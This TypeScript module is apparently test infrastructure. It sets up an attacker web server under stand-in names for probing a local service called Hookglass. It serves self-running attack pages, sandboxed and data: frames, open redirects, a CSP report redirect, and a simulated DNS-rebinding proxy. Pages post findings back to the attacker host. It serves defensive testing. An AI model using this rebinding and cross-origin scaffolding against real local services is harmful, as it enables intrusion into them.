/**
 * The attacker: a web server whose pages attack by themselves and report what they found, and a name that is bound to another address
 * after its page has been loaded. Its own answers are open to everybody, so that every page can report.
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { stripTypeScriptTypes } from 'node:module';
import { connect, createServer as createTcpServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { z } from 'zod';
import type { Knowledge } from './page/attack.ts';
import { listen } from './target.ts';

export const foreignName = 'attacker.test';
export const reboundName = 'rebound.test';

const reportSchema = z.object({
  told: z.array(z.object({ name: z.string(), read: z.string().nullable(), note: z.string() })),
  origin: z.string(),
  agent: z.string(),
});
export type Report = z.infer<typeof reportSchema>;

export interface AttackerParts {
  readonly knowledge: (place: string) => Knowledge;
  /** Called when a page has finished; answers the next address, or null for "stay". */
  readonly onReport: (place: string, report: Report) => Promise<string | null>;
  readonly onBroken: (place: string, problem: string) => void;
}

export interface Attacker extends AsyncDisposable {
  readonly origin: string;
  /** The attacking page as HTML. */
  page(place: string): string;
}

const open = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' };

type Route = (url: URL, request: IncomingMessage, response: ServerResponse) => void | Promise<void>;

export async function startAttacker(parts: AttackerParts): Promise<Attacker> {
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', origin);
    const route = routes[url.pathname.startsWith('/page/') ? '/page/' : url.pathname];
    if (request.method === 'OPTIONS') response.writeHead(204, open).end();
    else if (route) void Promise.resolve(route(url, request, response)).catch(() => response.destroy());
    else response.writeHead(404, open).end();
  });
  const origin = await listen(server);
  const page = (place: string) =>
    `<!doctype html><meta charset="utf-8"><title>${place}</title><body><script type="module" src="${origin}/page/main.ts?place=${encodeURIComponent(place)}"></script>`;
  const routes = routesOf(parts, page);
  return {
    origin,
    page,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function routesOf({ knowledge, onReport, onBroken }: AttackerParts, page: (place: string) => string): Readonly<Record<string, Route>> {
  const placeOf = (url: URL) => url.searchParams.get('place') ?? '';
  const html = (response: ServerResponse, text: string, headers: Record<string, string> = {}) =>
    void response.writeHead(200, { ...open, 'content-type': 'text/html; charset=utf-8', ...headers }).end(text);
  const json = (response: ServerResponse, value: unknown) =>
    void response.writeHead(200, { ...open, 'content-type': 'application/json' }).end(JSON.stringify(value));
  return {
    '/attack': (url, _, response) => html(response, page(placeOf(url))),
    '/frames': (url, _, response) => html(response, framesPage(url)),
    '/blank': (_, __, response) => html(response, ''),
    '/page/': (url, _, response) => {
      const text = readFileSync(join(import.meta.dirname, 'page', url.pathname.replace(/.*\//, '')), 'utf8');
      // why: the name of the place travels with the address of the entry; the modules behind it are the same for all.
      response.writeHead(200, { ...open, 'content-type': 'text/javascript' }).end(stripTypeScriptTypes(text));
    },
    '/knowledge': (url, _, response) => json(response, knowledge(placeOf(url))),
    '/redirect': (url, _, response) =>
      void response.writeHead(Number(url.searchParams.get('status')), { ...open, location: url.searchParams.get('to') ?? '' }).end(),
    '/reporting': (url, _, response) =>
      html(response, '<img src="/nothing">', {
        'content-security-policy-report-only': `default-src 'none'; report-uri ${url.searchParams.get('to')}`,
      }),
    '/report': async (url, request, response) => {
      const next = await onReport(placeOf(url), reportSchema.parse(JSON.parse(await textOf(request))));
      json(response, { url: next });
    },
    '/broken': async (url, request, response) => {
      onBroken(placeOf(url), await textOf(request));
      json(response, { url: null });
    },
  };
}

/** Attacks from inside frames: one without an origin of its own, and one that is a `data:` document. */
function framesPage(url: URL): string {
  const at = (place: string) => `/attack?place=${encodeURIComponent(place)}`;
  const data = `data:text/html,${encodeURIComponent(
    `<body><script type="module" src="${url.searchParams.get('origin')}/page/main.ts?place=${encodeURIComponent('a data: document')}"></script>`,
  )}`;
  return `<!doctype html><meta charset="utf-8"><body>
<iframe sandbox="allow-scripts allow-forms allow-popups" src="${at('a sandboxed frame')}"></iframe>
<iframe src="${data.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>
<script>
addEventListener('message', () => {});
fetch('${url.searchParams.get('origin')}/report?place=frames', { method: 'POST', body: JSON.stringify({ told: [], origin: location.origin, agent: navigator.userAgent }) })
  .then((answer) => answer.json()).then(({ url }) => { if (url) location.href = url; });
</script>`;
}

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of request) chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}

export interface ReboundName extends AsyncDisposable {
  /** `http://rebound.test:…`, which is the attacker's until its page was fetched and leads to Hookglass afterwards. */
  readonly origin: string;
}

/** What a browser sends after a rebinding reaches Hookglass byte by byte; only the name's lookup is spared. */
export async function startReboundName(page: string, targetOrigin: string): Promise<ReboundName> {
  const target = new URL(targetOrigin);
  let isRebound = false;
  const sockets = new Set<Socket>();
  const server = createTcpServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy()).on('close', () => sockets.delete(socket));
    if (isRebound) {
      const upstream = connect(Number(target.port), target.hostname);
      upstream.on('error', () => socket.destroy()).on('close', () => socket.destroy());
      socket.on('close', () => upstream.destroy());
      socket.pipe(upstream).pipe(socket);
      return;
    }
    socket.once('data', (head) => {
      if (head.toString('latin1').startsWith('GET /attack')) isRebound = true;
      const type = 'content-type: text/html; charset=utf-8\r\n';
      socket.end(`HTTP/1.1 200 OK\r\n${type}content-length: ${Buffer.byteLength(page)}\r\nconnection: close\r\n\r\n${page}`);
    });
  });
  const { port } = new URL(await listen(server));
  return {
    origin: `http://${reboundName}:${port}`,
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
